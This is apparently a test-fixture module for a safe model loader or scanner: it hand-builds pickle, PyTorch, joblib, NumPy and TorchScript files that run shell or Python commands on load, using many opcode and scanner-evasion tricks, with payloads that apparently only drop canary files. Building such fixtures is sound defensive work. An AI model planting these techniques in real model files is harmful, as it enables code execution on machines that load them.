"""Pickles that would run code, wherever a reader of another format would meet them."""

from __future__ import annotations

import io
import pickle
import struct
import sys
import tarfile
import zipfile
from collections.abc import Callable, Iterator, Mapping
from pathlib import Path

import joblib
import numpy as np
import torch
from hostile_case import ANY, Case, Place

START = b"\x80\x02"
MAGIC = 0x1950A86A20F9469CFC6C


# Pickles put together by hand


def word(text: str | bytes) -> bytes:
    raw = text if isinstance(text, bytes) else text.encode("utf-8", "surrogatepass")
    return b"X" + struct.pack("<I", len(raw)) + raw


def whole(number: int) -> bytes:
    """Write a whole number by the opcodes that torch's own reader knows, where it knows one."""
    if 0 <= number < 1 << 31:
        return b"J" + struct.pack("<i", number)
    raw = number.to_bytes(number.bit_length() // 8 + 1, "little", signed=True)
    return (b"\x8a" + bytes([len(raw)]) if len(raw) < 256 else b"\x8b" + struct.pack("<I", len(raw))) + raw


def name(path: str) -> bytes:
    module, _, last = path.rpartition(".")
    return f"c{module}\n{last}\n".encode()


def call(path: str, *arguments: bytes) -> bytes:
    return name(path) + b"(" + b"".join(arguments) + b"tR"


def pack(*items: bytes) -> bytes:
    return b"(" + b"".join(items) + b"t"


def storage(key: str = "0", count: int = 6, kind: str = "FloatStorage") -> bytes:
    return pack(word("storage"), name(f"torch.{kind}"), word(key), word("cpu"), whole(count)) + b"Q"


def tensor(
    shape: tuple[int, ...] = (2, 3),
    stride: tuple[int, ...] = (3, 1),
    offset: int = 0,
    *,
    held: bytes = b"",
) -> bytes:
    hooks = call("collections.OrderedDict")
    numbers = [pack(*map(whole, axes)) for axes in (shape, stride)]
    return call("torch._utils._rebuild_tensor_v2", held or storage(), whole(offset), *numbers, b"\x89", hooks)


def state(part: bytes, *, key: bytes | None = None) -> bytes:
    """Pickle a state dict with one good tensor and one more entry."""
    return START + b"}" + word("0.weight") + tensor() + b"s" + (key or word("1.weight")) + part + b"s."


FLOATS = struct.pack("<6f", 1, 2, 3, 4, 5, 7)


def zipped(
    content: bytes, storages: Mapping[str, bytes] | None = None, more: Mapping[str, bytes] | None = None
) -> bytes:
    members = {"data.pkl": content, "byteorder": b"little"}
    members |= {f"data/{key}": raw for key, raw in (storages or {"0": FLOATS}).items()}
    members |= {"version": b"3\n"} | dict(more or {})
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w") as archive:
        for member, raw in members.items():
            archive.writestr(zipfile.ZipInfo(f"archive/{member}"), raw)
    return file.getvalue()


def legacy(content: bytes, keys: bytes = b"", after: bytes = b"") -> bytes:
    """Write the old format, in which a storage has one more field, which says nothing."""
    content = content.replace(whole(6) + b"tQ", whole(6) + b"NtQ")
    front = b"".join(pickle.dumps(part, 2) for part in (MAGIC, 1001, {"little_endian": True}))
    return front + content + (keys or pickle.dumps(["0"], 2)) + struct.pack("<q", 6) + FLOATS + after


class Runs:
    """Pickles to a call of a function."""

    def __init__(self, function: Callable[..., object], *arguments: object) -> None:
        self.made = function, arguments

    def __reduce__(self) -> tuple[object, ...]:
        return self.made


def payloads(place: Place) -> Iterator[tuple[str, str, bytes]]:
    """Give pickled calls that would leave a canary behind, each with the trick that it uses."""

    def shell(case: str) -> bytes:
        return word(place.shell(case))

    def python(case: str) -> bytes:
        return word(place.python(case))

    yield "system", "names posix.system", call("posix.system", shell("system"))
    yield "exec", "names builtins.exec", call("builtins.exec", python("exec"))
    yield "old-exec", "names a builtin as Python 2 did", call("__builtin__.eval", word(f"exec({python_of(place)!r})"))
    yield "inst", "opcode INST", b"(" + shell("inst") + b"iposix\nsystem\n"
    yield "obj", "opcode OBJ", b"(" + name("posix.system") + shell("obj") + b"o"
    yield "newobj", "opcode NEWOBJ of classes whose making calls a function", newobj(place)
    yield "build", "opcode BUILD puts a function in the place of __setstate__", build(place)
    yield "getattr", "reaches a function through getattr", getattr_chain(place)
    yield "dotted", "a dotted name below an allowed module", dotted("torch", "serialization.os.system", place)
    yield (
        "allowed-prefix",
        "a function of torch that runs text",
        call("torch.jit.unsupported_tensor_ops.execWrapper", python("allowed-prefix"), b"}", b"}"),
    )
    yield (
        "load-from-bytes",
        "a pickle within a pickle, for torch to load",
        call(
            "torch.storage._load_from_bytes",
            b"B" + sized(pickle.dumps(Runs(system(), place.shell("load-from-bytes")), 2)),
        ),
    )
    yield (
        "from-type",
        "a tensor rebuilt by a function of the file's choice",
        call(
            "torch._tensor._rebuild_from_type_v2",
            name("posix.system"),
            name("torch.Tensor"),
            pack(shell("from-type")),
            b"N",
        ),
    )
    yield (
        "wrapper",
        "a tensor of a class of the file's choice",
        call(
            "torch._utils._rebuild_wrapper_subclass",
            name("subprocess.Popen"),
            name("torch.float32"),
            pack(shell("wrapper")),
        ),
    )
    yield (
        "runstring",
        "a function of numpy that runs text",
        call("numpy.testing._private.utils.runstring", python("runstring"), b"}"),
    )
    yield (
        "timeit",
        "a module of the standard library that scanners forget",
        call("timeit.timeit", word("pass"), python("timeit")),
    )
    yield "partial", "a callable put together from parts", partial(place)
    yield "dict-subclass", "a call in a state dict's own class", call("subprocess.getoutput", shell("dict-subclass"))
    yield "extension", "opcode EXT1, a name from the registry of copyreg", b"\x82\x01" + shell("extension") + b"\x85R"


def system() -> Callable[..., object]:
    return sys.modules["posix"].system


def sized(raw: bytes) -> bytes:
    return struct.pack("<I", len(raw)) + raw


def python_of(place: Place) -> str:
    return place.python("old-exec")


def newobj(place: Place) -> bytes:
    """Have bytes made of a map, which calls a function as it is gone through; nothing is called by REDUCE."""
    commands = b"](" + word(place.shell("newobj")) + b"e"
    lazy = name("builtins.map") + pack(name("posix.system"), commands) + b"\x81"
    return name("builtins.bytes") + pack(lazy) + b"\x81"


def build(place: Place) -> bytes:
    """Set an exception's __setstate__ to a function, then have it called."""
    step = b"}" + word("__setstate__") + name("posix.system") + b"s"
    return call("builtins.ValueError") + step + b"b" + word(place.shell("build")) + b"b"


def getattr_chain(place: Place) -> bytes:
    module = call("importlib.import_module", word("os"))
    return call("builtins.getattr", module, word("system")) + pack(word(place.shell("getattr"))) + b"R"


def dotted(module: str, path: str, place: Place) -> bytes:
    return word(module) + word(path) + b"\x93" + pack(word(place.shell("dotted"))) + b"R"


def partial(place: Place) -> bytes:
    return call("functools.partial", name("posix.system"), word(place.shell("partial"))) + b")R"


def code_cases(place: Place) -> Iterator[Case]:
    """Hide every payload in the place where a reader of another format would meet it."""
    wraps: list[tuple[str, Callable[[bytes], bytes]]] = [
        ("bare.pkl", lambda part: b"\x80\x04" + part + b"."),
        ("zip.pt", lambda part: zipped(state(part).replace(START, b"\x80\x04" if b"\x93" in part else START, 1))),
        ("legacy.pth", lambda part: legacy(state(part))),
    ]
    for number, (trick, why, part) in enumerate(payloads(place)):
        for kind, wrap in wraps if number < 2 else [wraps[number % 3], wraps[(number + 1) % 3]]:
            yield Case(f"code/{trick}-{kind}", why, wrap(part))
    runs = Runs(system(), place.shell("protocols"))
    for protocol in range(6):
        yield Case(f"code/protocol{protocol}.pickle", "a bare pickle", pickle.dumps({"w": runs}, protocol))


def hidden_cases(place: Place) -> Iterator[Case]:
    """Put the payload where a scanner or a hasty reader does not look."""
    evil = START + call("posix.system", word(place.shell("hidden"))) + b"."
    good = state(tensor())
    yield Case("code/second-pickle.pth", "a second pickle after the end of the first", legacy(good, evil))
    yield Case("code/third-pickle.pth", "code where the storages begin", legacy(good)[:-32] + evil)
    yield Case("code/broken-after.pkl", "the pickle breaks after the call has run", evil[:-1] + b"\xff\xff.")
    yield Case("code/after-stop.pt", "a second pickle after STOP in a member", zipped(good + evil), ANY)
    yield Case(
        "code/other-member.pt", "a second pickle in a member of another name", zipped(good, more={"x.pkl": evil}), ANY
    )
    system_info = b"".join(pickle.dumps(part, 2) for part in (MAGIC, 1001)) + evil + good + pickle.dumps(["0"], 2)
    yield Case(
        "code/system-info.pth", "code in the pickle of system facts", system_info + struct.pack("<q", 6) + FLOATS
    )
    yield Case("code/magic.pth", "code before the magic number", evil + legacy(good))
    identity = b"(" + word("storage") + call("posix.system", word(place.shell("persid"))) + word("0") + word("cpu")
    yield Case("code/persid.pt", "code in the name of a storage", zipped(state(identity + b"K\x06tQ")))
    yield Case("code/persid-text.pt", "the textual persistent id of protocol 0", zipped(state(b"Pposix.system\n")))
    yield Case("code/joblib.joblib", "joblib", dump(Runs(system(), place.shell("joblib"))))
    yield Case("code/joblib-packed.joblib", "joblib, packed", dump(Runs(system(), place.shell("joblib")), 3))
    yield Case("code/joblib-array.pkl", "joblib's own way with arrays", dump({"w": np.ones((2, 3))}))
    yield Case("code/module.pt", "a whole pickled module", saved(torch.nn.Linear(2, 2)))
    yield Case("code/tar.tar", "torch's oldest format, a tar of pickles", tarred(evil))
    objects = np.array([Runs(system(), place.shell("objects"))], dtype=object)
    yield Case("code/objects.npy", "an npy of Python objects", numpy_saved(np.save, objects))
    yield Case("code/objects.npz", "an npz of Python objects", numpy_saved(np.savez, objects))
    yield Case("code/script.pt", "TorchScript that writes a file as it loads", lambda path: script(path, place))
    yield Case("code/exported.pt2", "an exported program", exported)
    yield Case("code/package.pt", "a torch package with a module of its own", lambda path: package(path, place))
    yield Case("code/source.pt", "Python source", place.python("source").encode() + b"\n")
    yield Case("code/shell.safetensors", "a shell script", f"#!/bin/sh\n{place.shell('script')}\n".encode())
    yield Case("code/compiled.pt", "compiled Python", b"\xa7\r\r\n" + bytes(12) + b"\xe3" + bytes(60))
    yield Case("code/library.bin", "the head of a shared library", b"\x7fELF\x02\x01\x01" + bytes(57))


def dump(value: object, packed: int = 0) -> bytes:
    file = io.BytesIO()
    joblib.dump(value, file, compress=packed)
    return file.getvalue()


def saved(value: object) -> bytes:
    file = io.BytesIO()
    torch.save(value, file)
    return file.getvalue()


def numpy_saved(save: Callable[..., None], array: np.ndarray) -> bytes:
    file = io.BytesIO()
    save(file, array)
    return file.getvalue()


def tarred(content: bytes) -> bytes:
    file = io.BytesIO()
    with tarfile.open(fileobj=file, mode="w") as archive:
        for member in ("sys_info", "pickle", "storages", "tensors"):
            header = tarfile.TarInfo(member)
            header.size = len(content)
            archive.addfile(header, io.BytesIO(content))
    return file.getvalue()


def script(path: Path, place: Place) -> None:
    """Save a TorchScript module whose __setstate__ makes a file: code that runs on loading."""
    source = f"""
def __getstate__(self) -> int:
    return 1

def __setstate__(self, state: int) -> None:
    torch.from_file({str(place.canaries / "script")!r}, True, 1)
    self.training = False
"""
    module = torch.jit.script(torch.nn.Linear(2, 2))
    module.define(source)
    module.save(str(path))


def exported(path: Path) -> None:
    torch.export.save(torch.export.export(torch.nn.Linear(2, 2), (torch.ones(1, 2),)), path)


def package(path: Path, place: Place) -> None:
    with torch.package.PackageExporter(path) as exporter:
        exporter.save_source_string("evil", place.python("package"))
        exporter.save_pickle("model", "model.pkl", {"w": torch.ones(2)})


def cases(place: Place) -> Iterator[Case]:
    """Give all cases of this module."""
    yield from code_cases(place)
    yield from hidden_cases(place)
